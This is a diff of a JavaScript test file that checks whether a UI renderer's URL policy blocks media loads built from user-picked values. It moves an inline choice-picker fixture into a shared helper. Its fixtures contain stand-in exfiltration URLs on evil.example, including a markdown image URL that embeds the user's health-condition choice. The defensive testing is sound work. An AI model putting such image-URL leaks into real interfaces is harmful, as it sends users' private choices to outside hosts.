@@ -12,6 +12,7 @@ import { SurfaceStore } from '../../src/react/surface-store.js';
 import { guardMarkdown } from '../../src/web-core/url-policy.js';
 import { OPEN_URL_FUNCTION } from '../../src/web-core/open-url.js';
 import { surfacePolicy } from '../../src/web-core/url-policy.js';
+import { choicePicker } from '../browser/url-fixtures.js';
 
 const CATALOG = basicCatalog('0.9').id;
 
@@ -68,16 +69,7 @@ describe('hole 5: openUrl under the URL policy', () => {
 describe('hole 6: a media URL the user picks is not loaded', () => {
   const components = [
     { id: 'root', component: 'Column', children: ['pick', 'img', 'md', 'ok'] },
-    {
-      id: 'pick',
-      component: 'ChoicePicker',
-      variant: 'mutuallyExclusive',
-      options: [
-        { label: 'Diabetes', value: 'https://evil.example/diabetes.png' },
-        { label: 'Asthma', value: 'https://evil.example/asthma.png' },
-      ],
-      value: { path: '/choice' },
-    },
+    choicePicker(),
     { id: 'img', component: 'Image', url: { path: '/choice/0' } },
     { id: 'md', component: 'Text', text: { call: 'formatString', args: { value: 'Hi ![x](https://evil.example/md-${/choice/0}.png)' } } },
     { id: 'ok', component: 'Image', url: { path: '/photo' } },
